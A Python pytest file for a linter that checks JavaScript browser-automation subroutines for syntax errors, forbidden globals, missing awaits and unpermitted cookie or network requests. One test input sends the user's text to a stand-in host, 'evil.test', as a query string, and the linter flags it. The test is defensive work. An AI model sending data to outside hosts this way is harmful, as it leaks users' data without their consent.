"""What is found in a body without running it, and where in the file."""

import pytest

from library.catalog import BUILT_IN, Catalog
from library.lint import Finding, Level, lint
from library.models import Effect, Expectation, Subroutine
from tests.library.subroutines import subroutine, text

BODY_LINE = 4
"""Of the subroutines made here: their manifest takes three lines."""


def write(body: str, **more: object) -> Subroutine:
    return subroutine(body=body, text=text(), **more)  # type: ignore[arg-type]


def codes(asked: Subroutine) -> list[tuple[int, int, str]]:
    return [(finding.line - BODY_LINE + 1, finding.column, finding.code) for finding in lint(asked)]


GOOD = """
const box = await tab.find({ role: "textbox", name: "What is happening?" });
await tab.type(box, text, { clear: true });
tab.log(`typed ${text}`);
const [one, two] = await Promise.all([tab.read(box), tab.read("x")]);
const later = tab.waitFor({ text });
await later;
const urls = await Promise.all(["a"].map((name) => tab.find({ name })));
const found = await tab.find({ text }).catch(() => null);
for (const { url: link = "", ...rest } of urls) console.log(link, rest, one?.two, two);
try { JSON.parse(text); } catch (problem) { throw new Error(problem.message); }
async function again(count) { if (count) await again(count - 1); }
await again(2);
if (typeof window !== "undefined") return null;
return { found, url: await rtrvr.read(box, { attribute: "data-url" }) };
"""


def test_a_good_body_has_no_findings() -> None:
    assert lint(write(GOOD)) == []


@pytest.mark.parametrize(
    ("body", "line", "column", "code", "says"),
    [
        ("const x = ;\nreturn text;", 1, 9, "syntax", "not JavaScript"),
        ("return text;\nif (true {\n}", 2, 9, "syntax", "is missing"),
        ("await fetch('/x');\nreturn text;", 1, 7, "absent", "tab.request"),
        ("return document.title + text;", 1, 8, "absent", "tab.find"),
        ("return self.XMLHttpRequest + text;", 1, 13, "absent", "tab.request"),
        ("chrome.runtime.id; return text;", 1, 1, "absent", "extension"),
        ("const m = await import('x'); return text;", 1, 17, "absent", "cannot import"),
        ("import x from 'y';\nreturn text;", 1, 1, "absent", "cannot import"),
        ("const é = txt; return text;", 1, 11, "unknown-name", 'Did you mean "text"?'),
        ("return { txet, text };", 1, 10, "unknown-name", 'Did you mean "text"?'),
        ("await tab.clik({ text });", 1, 11, "unknown-helper", 'Did you mean "click"?'),
        ("await tab.evaluate(text);", 1, 11, "unknown-helper", "There is: click"),
        ("tab.click({ text });", 1, 1, "not-awaited", "write await"),
        ("await tab.click(tab.find({ text }));", 1, 17, "not-awaited", "write await"),
        ("const box = tab.find({ text });\nawait tab.click(box);", 1, 13, "not-awaited", "write await"),
        ("return (await tab.find({ text })).x + tab.read(text).length;", 1, 39, "not-awaited", "write await"),
        ("[1].forEach((n) => { await tab.read(text); });", 1, 22, "await-outside-async", "write async"),
        ("return tab.getCookie(text);", 1, 8, "cookies-not-permitted", "cookies: true"),
        ("await tab.request('/api/x', {method: 'POST'}); return text;", 1, 19, "request-not-permitted",
         '"POST http://127.0.0.1:8765/api/x"'),
        ("await tab.requestJson({url: '/api/x'}); return text;", 1, 23, "request-not-permitted", '"GET http'),
        ("await tab.request('https://evil.test/?q=' + text); await tab.request('https://evil.test/');", 1, 70,
         "request-not-permitted", "evil.test"),
    ],
)  # fmt: skip
def test_what_would_fail_is_found_with_its_place(
    body: str, line: int, column: int, code: str, says: str
) -> None:
    findings = lint(write(body))
    assert (line + BODY_LINE - 1, column, code) in [
        (finding.line, finding.column, finding.code) for finding in findings
    ], findings
    assert any(finding.code == code and says in finding.message for finding in findings), findings


@pytest.mark.parametrize(
    "body",
    [
        "return tab.request('/api/posts', { method: 'POST', json: { text } });",
        "return tab.request({ url: '/api/posts', method: 'POST' }, text);",
        "return tab.request(`/api/posts/${text}`, { method: 'DELETE' });",
        "return tab.request(text, { method: 'PUT' });",
        "return tab.request(`${text}/x`);",
        "const options = { method: text }; return tab.request('/api/posts', options);",
    ],
)
def test_a_request_that_is_permitted_or_not_written_out_is_left_to_the_run(body: str) -> None:
    requests = ("POST http://127.0.0.1:8765/api/posts", "DELETE http://127.0.0.1:8765/api/posts/*")
    assert lint(write(body, requests=requests)) == []


def test_a_template_that_no_permission_covers_is_a_warning() -> None:
    (finding,) = lint(write("return tab.request(`/api/users/${text}`);"))
    assert (finding.level, finding.code) == (Level.WARNING, "request-not-permitted")


def test_a_parameter_that_is_never_used_is_a_warning() -> None:
    assert codes(write("return 1;")) == [(1 - BODY_LINE + 1, 1, "unused-param")]


def test_a_write_that_proves_nothing_is_a_warning() -> None:
    (finding,) = lint(write("return text;", effect=Effect.WRITE))
    assert (finding.level, finding.code) == (Level.WARNING, "no-expect")
    assert lint(write("return text;", effect=Effect.WRITE, expect=(Expectation(text="{text}"),))) == []


def test_findings_come_in_the_order_of_the_file() -> None:
    assert codes(write("alert(1);\nfetch(text);\n")) == [(1, 1, "absent"), (2, 1, "absent")]


@pytest.mark.parametrize("asked", Catalog([BUILT_IN]).all(), ids=lambda asked: asked.name)
def test_every_built_in_subroutine_is_clean(asked: Subroutine) -> None:
    findings: list[Finding] = lint(asked)
    assert findings == []
